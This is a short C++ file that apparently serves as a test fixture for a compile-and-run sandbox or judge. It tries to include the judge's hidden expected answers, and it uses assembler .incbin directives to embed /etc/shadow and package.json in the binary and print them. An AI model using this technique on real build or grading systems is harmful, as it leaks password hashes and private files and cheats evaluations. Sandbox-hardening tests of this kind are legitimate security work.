#include <cstdio>
#if __has_include("../judge-answers/expected")
#include "../judge-answers/expected"
#endif
asm(".section .rodata\nstolen:\n.incbin \"/etc/shadow\"\n.incbin \"@PE_ROOT@/package.json\"\n.byte 0\n");
extern const char stolen[] asm("stolen");
int main() { std::puts(stolen); }
